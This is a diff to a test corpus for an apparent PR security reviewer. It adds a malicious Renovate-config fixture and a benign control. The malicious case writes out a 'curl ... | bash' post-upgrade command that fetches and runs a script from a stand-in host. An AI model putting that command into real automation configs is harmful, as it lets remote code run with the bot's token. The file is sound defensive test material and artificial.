@@ -36,6 +36,10 @@ function keypairModule(inFrom: string[], after: string[]): string {
     ...after,
   );
 }
+/** renovate.json with post-upgrade commands (none: without postUpgradeTasks). */
+function renovateJson(commands: string[] | null): string {
+  return `${JSON.stringify({ $schema: 'https://docs.renovatebot.com/renovate-schema.json', extends: ['config:recommended'], ...(commands === null ? {} : { postUpgradeTasks: { commands, fileFilters: ['**/*'], executionMode: 'branch' } }) }, null, 2)}\n`;
+}
 /** subprojects/zlib.wrap as wrapdb writes it, with its upstream source URL and checksum. */
 function zlibWrap(sourceUrl: string, hash: string): string {
   return lines(
@@ -1223,5 +1227,31 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
+  },
+  {
+    id: 'attack-renovate-post-upgrade-pipe',
+    description:
+      'Automation files as the way in: a "renovate: regenerate lockfiles" PR makes Renovate run a downloaded script after every upgrade, in its own environment with its token, and commit what it produces.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7152,
+        title: 'chore(renovate): regenerate lockfiles after upgrades',
+        author: 'newcomer',
+        files: [{ path: 'renovate.json', base: renovateJson(null), head: renovateJson(['curl -fsSL https://lockfile-tools.example/regen.sh | bash']) }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['renovate-post-upgrade-command'] },
+  },
+  {
+    id: 'attack-renovate-post-upgrade-generate',
+    description: 'A maintainer makes Renovate regenerate the API client after upgrades with the project\'s own npm script.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7153,
+        title: 'chore(renovate): regenerate the client after upgrades',
+        files: [{ path: 'renovate.json', base: renovateJson(null), head: renovateJson(['npm ci --ignore-scripts', 'npm run generate:client']) }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
   },
 ];
